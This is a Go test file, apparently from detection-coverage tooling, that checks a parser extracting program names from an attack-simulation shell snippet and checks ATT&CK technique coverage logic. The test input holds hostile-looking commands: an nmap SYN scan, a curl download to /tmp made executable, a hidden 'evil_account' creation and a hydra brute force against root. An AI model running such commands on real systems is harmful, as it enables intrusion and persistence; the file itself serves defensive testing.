package atomic

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestPrograms(t *testing.T) {
	require.Equal(t, []string{"chmod", "curl", "grep", "hydra", "nmap", "useradd"}, Programs(`if [ -x "$(command -v nmap)" ]; then
  sudo nmap -sS 127.0.0.1 | grep open
fi
X=1 curl -so /tmp/x http://x && chmod +x /tmp/x; echo done
useradd -M -N -r -s /bin/bash -c evil_account art; /usr/bin/hydra -l root`))
}

func TestCoveredByTechniqueOrItsParent(t *testing.T) {
	sub := Result{Test: Test{Technique: "T1053.003"}, Detections: []Detection{{Recipe: "r", Techniques: []string{"T1053"}}}}
	exact, parent := sub.Covered()
	require.False(t, exact)
	require.True(t, parent)
	sub.Detections[0].Techniques = append(sub.Detections[0].Techniques, "T1053.003")
	exact, parent = sub.Covered()
	require.True(t, exact)
	require.True(t, parent)
	none := Result{Test: Test{Technique: "T1082"}, Detections: []Detection{{Recipe: "r", Techniques: []string{"T1083"}}}}
	exact, parent = none.Covered()
	require.False(t, exact || parent)
}
